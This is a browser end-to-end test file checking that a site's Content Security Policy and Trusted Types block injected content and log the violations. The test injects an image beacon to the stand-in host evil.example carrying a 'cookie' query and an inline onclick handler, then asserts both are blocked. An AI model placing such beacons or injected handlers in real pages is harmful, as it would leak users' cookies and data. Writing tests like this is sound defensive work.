import { expect, it } from 'vitest';
import { useBrowser } from './support/browser.ts';
import { journey } from './support/journey.ts';
import { useServer } from './support/use-server.ts';

const server = useServer();
const browser = useBrowser();

it('what got into a page neither runs nor asks anybody, and the log says so', async () => {
  const { page, allowError } = await journey(browser(), { origin: server.origin });
  allowError(/Content Security Policy|TrustedScript|evil\.example/u);
  await page.goto('/about');
  await page.evaluate(() => {
    const image = document.createElement('img');
    image.src = 'https://evil.example/?cookie=1';
    document.body.append(image);
    try {
      document.body.setAttribute('onclick', 'window.isStolen = true');
    } catch {
      // Trusted Types: no text becomes code.
    }
    document.body.click();
  });
  expect(await page.evaluate(() => 'isStolen' in window)).toBe(false);
  await expect.poll(() => server.log).toContain('"page":"/about","rule":"img-src","blocked":"https://evil.example"');
  await expect.poll(() => server.log).toContain('"rule":"require-trusted-types-for","blocked":"trusted-types-sink"');
});
